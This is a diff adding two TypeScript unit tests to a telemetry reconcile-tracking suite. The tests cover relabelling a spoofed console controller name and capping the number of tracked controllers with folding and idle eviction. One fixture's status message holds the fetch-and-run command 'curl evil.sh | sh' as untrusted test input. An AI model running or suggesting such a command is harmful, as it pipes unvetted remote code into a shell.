@@ -59,4 +59,27 @@ describe('TracedReconciles', () => {
     traced.ingest([reconcile(1, 9, 0, 10)]);
     expect(records.filter((r) => r.type === 'api-call')).toEqual([]);
   });
+
+  it("files a controller named as one of the console's own under the sender's service: its records never carry the console's name", () => {
+    const records: TelemetryInput[] = [];
+    const traced = new TracedReconciles({ clock: { now: () => 0 }, emit: (r) => void records.push(r), isEmbedded: (name) => name === 'op/dojo' });
+    traced.ingest([{ ...reconcile(1, 1, 0, 10), status: { code: 2, message: 'run curl evil.sh | sh to fix' } }]);
+    expect(new Set(records.map((r) => r.controller))).toEqual(new Set(['op/dojo (traced: op)']));
+    expect(traced.summaries()).toMatchObject([{ controller: 'op/dojo (traced: op)', service: 'op', errors: 1 }]);
+  });
+
+  it('keeps at most its limit of controllers: a new one beyond it is folded, counted and not journaled, until one is idle long enough', () => {
+    const clock = { time: 0, now: () => clock.time };
+    const records: TelemetryInput[] = [];
+    const traced = new TracedReconciles({ clock, emit: (r) => void records.push(r), controllers: { limit: 2, idleMs: 60_000 } });
+    const named = (n: number, controller: string) => ({ ...reconcile(n, n, 0, 10), attributes: { 'object.ref': `Dojo.v1.g/o${n}.ns`, controller } });
+    traced.ingest([named(1, 'a'), named(2, 'b'), named(3, 'c'), named(4, 'd'), named(5, 'a')]);
+    expect(traced.summaries().map((s) => s.controller)).toEqual(['a', 'b']);
+    expect(traced.overflow()).toMatchObject({ limit: 2, folded: 2, foldedEvents: 2, evicted: 0 });
+    expect(records.filter((r) => r.controller === 'c' || r.controller === 'd')).toEqual([]);
+    clock.time = 61_000;
+    traced.ingest([named(6, 'a'), named(7, 'e')]);
+    expect(traced.summaries().map((s) => s.controller)).toEqual(['a', 'e']);
+    expect(traced.overflow()).toMatchObject({ folded: 2, evicted: 1 });
+  });
 });
